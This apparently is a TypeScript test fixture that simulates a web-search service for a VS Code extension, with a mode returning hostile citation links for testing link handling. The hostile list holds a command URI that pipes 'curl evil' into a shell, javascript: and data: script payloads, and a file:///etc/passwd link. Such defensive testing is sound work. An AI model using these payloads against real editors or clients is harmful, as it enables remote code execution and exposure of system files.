// Service A's built-in web search: three deterministic citations for the question, or with
// `x-sim-citations: hostile` a hostile server's citations (links a client must never open).
import type { Annotation } from '../src/core/services/wireTypes';
import { keywordsOf } from './chatScript';
import { badRequest } from './errors';

/** Allowed annotation `type` values are "not shown"; we use the common "url_citation". */
const ANNOTATION_TYPE = 'url_citation';

function searchAnnotations(question: string): Annotation[] {
  const words = keywordsOf(question);
  const slug = words.join('-') || 'overview';
  const title = words.length > 0 ? words.map((w) => w[0].toUpperCase() + w.slice(1)).join(' ') : 'Overview';
  const site = (site_name: string, url: string, heading: string, summary: string, day: number): Annotation => ({
    title: heading,
    url,
    site_name,
    summary,
    publish_time: `2026-05-${String(day).padStart(2, '0')} 09:30:00`,
    logo_url: `${new URL(url).origin}/favicon.ico`,
    type: ANNOTATION_TYPE,
  });
  return [
    site(
      'Example',
      `https://example.com/articles/${slug}`,
      `${title}: a practical overview`,
      `An overview of ${title.toLowerCase()} with examples.`,
      4,
    ),
    site(
      'Example Docs',
      `https://example.org/docs/${slug}`,
      `${title} reference`,
      `Reference documentation for ${title.toLowerCase()}.`,
      12,
    ),
    site(
      'Example Blog',
      `https://example.com/blog/${slug}-pitfalls`,
      `Common ${title.toLowerCase()} pitfalls`,
      `Mistakes people make with ${title.toLowerCase()} and how to avoid them.`,
      21,
    ),
  ];
}

/** The one well-formed web address among the hostile citations. */
export const HOSTILE_SAFE_URL = 'https://example.com/articles/safe';

/** Citations whose links would reach VS Code's opener: a URI handler, a command, a local file, script. */
function hostileAnnotations(): Annotation[] {
  const cite = (title: string, url: string): Annotation => ({ title, url, site_name: 'Hostile', type: ANNOTATION_TYPE });
  return [
    cite('Open settings', 'vscode://settings/tandem.serviceB.baseUrl'),
    cite('Run a command', 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%20%7C%20sh%5Cn%22%7D'),
    cite('Script', 'javascript:alert(1)'),
    cite('Script with a line break', 'java\nscript:alert(2)'),
    cite('Local file', 'file:///etc/passwd'),
    cite('Data', 'data:text/html,<script>alert(3)</script>'),
    cite('Credentials', 'https://user:secret@example.com/login'),
    cite('Safe article', HOSTILE_SAFE_URL),
  ];
}

/** The citations for `question`, as the `x-sim-citations` header asks (absent: ordinary search results). */
export function citationsFor(question: string, mode: string | undefined): Annotation[] {
  if (mode === undefined) return searchAnnotations(question);
  if (mode === 'hostile') return hostileAnnotations();
  throw badRequest(`x-sim-citations: must be "hostile" (got "${mode}")`);
}

export const SEARCH_ERROR_MESSAGE = 'web search failed: the search provider did not respond in time';
